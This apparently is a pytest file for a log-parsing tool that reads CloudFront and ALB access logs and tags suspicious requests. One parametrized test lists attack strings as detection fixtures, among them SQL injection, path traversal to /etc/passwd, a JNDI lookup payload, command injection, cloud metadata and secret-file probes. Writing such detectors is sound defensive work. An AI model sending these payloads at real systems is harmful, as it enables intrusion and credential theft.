        sample("cloudfront_realtime", "realtime-monitoring/one-record-after-parsing.json")
    )
    del record["timestamp_utc"]
    cells: list[str] = []
    for key, value in record.items():
        listed = isinstance(value, list)
        cells.append(json.dumps(value).replace(" ", "%20") if listed else str(value))
        if key == "c-ip":
            cells.append("192.0.2.20")
    return "\t".join(cells)


def test_a_real_time_record_reads_as_the_documentation_says(realtime: Delivered) -> None:
    put(realtime, _realtime_line())
    expected: Row = {
        "event_time": datetime(2020, 10, 14, 3, 38, 58, 145000),
        "actor": "1.2.3.4",
        "source_ip": "1.2.3.4",
        "event_name": "GET",
        "target": "somehost123.cloudfront.net/image.jpg",
        "outcome": "success",
        "event_id": "boNb1al7B50G5T7jXDOGi2zlYAF2VWrba2fnZWfucsomething12345_UA==",
        "s_ip": "192.0.2.20",
        "time_to_first_byte": 0.002,
        "sc_status": 200,
        "sc_bytes": 16653,
        "cs_bytes": 59,
        "edge_location": "IAD66-C1",
        "c_ip_version": "IPv4",
        "user_agent": "curl/7.53.1",
        "referer": None,
        "sc_content_len": 16335,
        "c_port": 36242,
        "c_country": "US",
        "accept": "*/*",
        "cache_behavior_path_pattern": "*",
        "headers_count": 8,
        "asn": None,
    }
    (row,) = realtime.rows(", ".join(expected))
    assert row == expected


# Fields as a user may choose them, in the order that CloudFront keeps to.
CHOSEN = ("timestamp", "c-ip", "sc-status", "cs-method", "cs-host", "cs-uri-stem", "x-host-header")


def test_a_user_chooses_the_fields_of_real_time_logs(tmp_path: Path) -> None:
    deployment = Deployment(fields={"cloudfront_realtime": CHOSEN})
    source = load_source(roots(), "cloudfront_realtime", deployment)
    assert [c.name for c in source.table.columns] == [name.replace("-", "_") for name in CHOSEN]
    assert "skip.header.line.count" not in source.table.properties
    lake = Delivered(tmp_path, {source.name: source}, source.name)
    good = "1777629600.123\t198.51.100.10\t404\tGET\tWWW.example.com\t/a%20b?x=1\td1.cloudfront.net"
    moved = "1777629600.123\t198.51.100.10\tx\t404\tGET\twww.example.com\t/a"
    put(lake, good, moved, "soon\t198.51.100.10", "")
    columns = "event_time, source_ip, target, uri_query, outcome, distribution_domain, user_agent"
    (row,) = lake.rows(columns)
    assert list(row.values()) == [
        datetime(2026, 5, 1, 10, 0, 0, 123000),
        "198.51.100.10",
        "www.example.com/a b",
        "x=1",
        "failure",
        "d1.cloudfront.net",
        None,
    ]
    assert sorted(lake.unparsed()) == ["", moved, "soon\t198.51.100.10"]


@pytest.mark.parametrize(
    ("url", "probe"),
    [
        ("/?id=1%27%20OR%201=1", "sql_injection"),
        ("/?id=1+UNION/**/SELECT+2", "sql_injection"),
        ("/?id=sleep(5)", "sql_injection"),
        ("/%2e%2e/%2e%2e/x", "path_traversal"),
        ("/?f=../../../etc/passwd", "path_traversal"),
        ("/?f=%252e%252e%252f%252e%252e%252fx", "path_traversal"),
        ("/?q=%3Cscript%3Ealert(1)", "script_injection"),
        ("/?x=${jndi:ldap://192.0.2.1/a}", "lookup_injection"),
        ("/?x=$%7B::-j%7Dndi", "lookup_injection"),
        ("/?c=;cat%20/x", "command_injection"),
        ("/?c=%7Cid", "command_injection"),
        ("/?u=http://169.254.169.254/latest/meta-data/", "metadata_address"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "code_injection"),
        ("/.env", "secret_file"),
        ("/.git/config", "secret_file"),
        ("/backup.sql", "secret_file"),
        ("/", None),
        ("/union/selected-works?order=by+name&from=users", None),
        ("/a/../b", None),
        ("/environment?sort=id;page=2", None),
        ("/search?q=it%27s+on+sale", None),
        ("/?q=cats+and+dogs%7Cbirds", None),
        ("/.well-known/security.txt", None),
        ("/docs/etc/index.html", None),
    ],
)
def test_what_a_request_probes_for(
    tmp_path: Path, sources: dict[str, Source], url: str, probe: str | None
) -> None:
    alb = Delivered(tmp_path / "alb", sources, "alb")
    put(alb, alb_line(url=f"https://www.example.com:443{url}"))
    assert alb.rows("probe") == [{"probe": probe}]
    edge = Delivered(tmp_path / "edge", sources, "cloudfront")
    path, _, query = url.partition("?")
    put(edge, cloudfront_line(stem=path, query=query or "-"))
    assert edge.rows("probe") == [{"probe": probe}]


def _lines_of(source: str) -> list[str]:
    if source == "alb":
        hostile = [alb_line(n, **v) for v, _ in HOSTILE_ALB.values() for n in ALB_TAILS]
    else:
        tails = S3ACCESS_TAILS
        hostile = [s3access_line(n, **v) for v, _ in HOSTILE_S3ACCESS.values() for n in tails]
    real = [sample(source, name).decode().splitlines() for s, name in samples() if s == source]
    # bytes that are no UTF-8 reach both as the sign for that, a line break never
    lines = [line.replace("\udce9", "\ufffd") for line in (*sum(real, []), *hostile)]
    return [line for line in lines if not {"\r", "\n"} & {*line}]


@pytest.mark.parametrize("source", UNPARTED)
def test_java_and_we_read_the_same(tmp_path: Path, sources: dict[str, Source], source: str) -> None:
    table = sources[source].table
    lines = _lines_of(source)
    by_java = matched_by_java(table.serde_properties["input.regex"], lines)
    lake = Delivered(tmp_path, sources, source)
    put(lake, *lines)
    names = ", ".join(f'"{column.name}"' for column in table.columns)
    rows, _ = lake.ask(f"SELECT {names} FROM {table.name}")
    ours = [[*row.values()] for row in rows]
    assert ours == [groups or [None] * len(table.columns) for groups in by_java]
    assert sum(groups is not None for groups in by_java) > len(lines) / 2
